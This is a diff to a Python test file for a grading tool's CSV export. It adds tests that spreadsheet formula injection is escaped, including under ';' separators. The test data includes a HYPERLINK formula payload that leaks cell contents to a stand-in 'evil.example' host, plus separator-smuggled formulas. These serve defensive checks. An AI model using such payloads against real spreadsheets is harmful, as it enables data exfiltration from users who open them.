@@ -253,10 +253,26 @@ def test_every_reader_of_nbgrader_metadata_uses_the_one_function():
 @pytest.mark.parametrize("text, want", [
     ('=HYPERLINK("http://evil.example/?"&A1,"click here")', '\'=HYPERLINK("http://evil.example/?"&A1,"click here")'),
     ("+1", "'+1"), ("-1+2", "'-1+2"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
-    ("AssertionError: = 2", "AssertionError: = 2"), ("", ""),
+    ("AssertionError: = 2", "AssertionError: = 2"), ("", ""), ("a;=1", "a;'=1"), ("x,-1\n@y", "x,'-1\n'@y"),
 ])
 def test_csv_cells_never_start_a_formula(text, want):
     assert csv_cell(text) == want
+
+
+def test_no_piece_of_a_csv_cell_starts_a_formula_whatever_the_separator(tmp_path):
+    """A spreadsheet whose list separator is ';' splits the comma-separated file at every ';', quoted
+    or not ('a;=HYPERLINK(...)' in a reason became a formula cell): read back with ',', ';', tab or '|'
+    as the separator, no piece starts a formula, and with ',' every cell reads back whole."""
+    import csv
+    from grader.submissions import Row, Status, write_csv
+    out = tmp_path / "grades.csv"
+    write_csv([Row("ann;=1+1", "00_x", "ex1;+2", 0, 1, Status.FAILED, ("AssertionError: a;=HYPERLINK(1)",))], out)
+    lines = out.read_text(encoding="utf-8").splitlines()
+    assert all(line.startswith('"') and line.endswith('"') for line in lines), lines
+    for sep in (",", ";", "\t", "|"):
+        for row in csv.reader(lines, delimiter=sep):
+            assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), (sep, row)
+    assert next(csv.reader(lines[1:])) == ["ann;'=1+1", "00_x", "ex1;'+2", "0", "1", "AssertionError: a;'=HYPERLINK(1)"]
 
 
 def test_a_failed_run_leaves_no_stale_grades_csv(tmp_path, monkeypatch):
